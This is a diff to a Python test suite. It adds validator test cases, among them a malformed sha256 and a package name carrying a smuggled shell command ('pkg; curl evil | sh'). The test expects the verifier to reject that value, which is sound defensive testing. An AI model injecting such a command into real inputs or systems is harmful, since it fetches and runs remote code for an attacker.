@@ -286,6 +286,14 @@ def test_verify_refuses_data_other_than_the_recorded(
             r"metrics\.predictions_sha256 should be a str",
         ),
         (lambda d: d["module"].update(name=["none"]), r"module\.name should be a string, not a list"),
+        (
+            lambda d: d["module"].update(source_sha256="abc"),
+            r"module\.source_sha256 is 'abc', which is not a sha256 \(64 lowercase hex digits\) or empty",
+        ),
+        (
+            lambda d: d["module"].update(package="pkg; curl evil | sh"),
+            r"module\.package is 'pkg; curl evil \| sh', which is not a package name",
+        ),
         (lambda d: d["verification"].update(n="40"), r"verification\.n should be a whole number"),
         (lambda d: d["manifest"].update({"config.json": 7}), r"manifest\.config\.json should be a string"),
         (lambda d: d.update(metrics=[]), r"metrics should be an object, not a list"),
